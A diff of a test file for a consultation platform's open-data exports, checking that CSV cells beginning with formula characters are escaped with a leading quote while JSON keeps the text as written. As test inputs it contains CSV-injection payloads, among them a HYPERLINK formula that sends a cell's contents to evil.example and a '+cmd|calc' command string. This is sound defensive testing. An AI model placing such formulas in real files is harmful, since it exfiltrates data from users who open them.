@@ -86,7 +86,7 @@ describe('open data exports', () => {
     const secretVote = await vote('Vote secret', 'consent', true, 'closed', {
       eligible: 8, cast: 2, consent: 1, objection: 1, outcome: 'rejected', objections: [{ reason: secretMarker }], voters: users.map((u) => u.id),
     });
-    await ds.query(`INSERT INTO ballot (id, vote_id, content, college, receipt_hash) VALUES ($1, $2, $3, 'local', $4)`, [randomUUID(), secretVote, JSON.stringify({ choice: 'objection', reason: secretMarker }), sha('f')]);
+    await ds.query(`INSERT INTO ballot (id, vote_id, content, college) VALUES ($1, $2, $3, 'local')`, [randomUUID(), secretVote, JSON.stringify({ choice: 'objection', reason: secretMarker })]);
     await ds.query(`INSERT INTO vote_option (vote_id, version_id, position) VALUES ($1, $2, 0)`, [secretVote, v2.id]);
     await vote('Vote public', 'consent', false, 'closed', {
       eligible: 8, cast: 1, consent: 0, objection: 1, outcome: 'rejected', objections: [{ reason: 'Coût trop élevé', voterName: 'Élise Petit', userId: users[0].id }],
@@ -161,6 +161,42 @@ describe('open data exports', () => {
         }
       }
     }
+  });
+
+  it("neutralises formula cells in CSV with a leading ' and leaves JSON as it is (API.md v2)", async () => {
+    const ds = db(p);
+    const group = await demoGroupId(p, 'AXE-1');
+    const facilitator = await p.login(DEMO.facilitator);
+    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")';
+    const rec = (await p.request('POST', `/api/working-groups/${group}/recommendations`, { token: facilitator, body: { title: hyperlink, horizon: 'structuring' } })).body.id as string;
+    for (const status of ['under_review', 'adopted']) await p.request('PATCH', `/api/recommendations/${rec}`, { token: facilitator, body: { status } });
+    const [version] = await ds.query(`INSERT INTO recommendation_version (recommendation_id, number, content, content_hash) VALUES ($1, 1, 'f', $2) RETURNING id`, [rec, sha('9')]);
+    const [amf] = await ds.query(`SELECT id, organization_id FROM "user" WHERE email = $1`, [DEMO.amf]);
+    await ds.query(
+      `INSERT INTO position (recommendation_id, version_id, organization_id, submitted_by, stance, motivation, submitted_at, current, hash) VALUES ($1, $2, $3, $4, 'unfavorable', '@SUM(1+1)', now(), true, $5)`,
+      [rec, version.id, amf.organization_id, amf.id, sha('8')],
+    );
+    await ds.query(`INSERT INTO vote (working_group_id, title, method, status, closed_at, results) VALUES ($1, '-2+3', 'consent', 'closed', now(), $2)`, [
+      group,
+      JSON.stringify({ eligible: 3, cast: 1, consent: 0, objection: 1, outcome: 'rejected', objections: [{ reason: '+cmd|calc' }] }),
+    ]);
+    await ds.query(`INSERT INTO vote (working_group_id, title, method, status, closed_at, results) VALUES ($1, $2, 'consent', 'closed', now(), '{}')`, [group, '\tTabulé']);
+
+    const csv = async (dataset: string) => parseCsv(await (await get(`/api/exports/${dataset}?format=csv`)).text());
+    const recs = await csv('recommendations');
+    expect(recs.find((r) => r[0] === rec)?.[1]).toBe(`'${hyperlink}`);
+    const votes = await csv('votes');
+    const titles = votes.map((r) => r[votes[0].indexOf('title')]);
+    expect(titles).toEqual(expect.arrayContaining(["'-2+3", "'\tTabulé"]));
+    const positions = await csv('positions');
+    expect(positions.map((r) => r[positions[0].indexOf('motivation')])).toContain("'@SUM(1+1)");
+    // no cell of any CSV export starts with a formula character
+    for (const dataset of ['recommendations', 'votes', 'positions']) {
+      for (const cell of (await csv(dataset)).flat()) expect([dataset, cell, /^[=+\-@\t\r]/.test(cell)]).toEqual([dataset, cell, false]);
+    }
+    // JSON is data, not a spreadsheet: it keeps the text as written
+    const json = await (await get('/api/exports/recommendations?format=json')).json();
+    expect(json.items.find((i: any) => i.id === rec).title).toBe(hyperlink);
   });
 
   it('answers 400 for an unknown format or parameter, 404 for an unknown dataset, and needs no token', async () => {
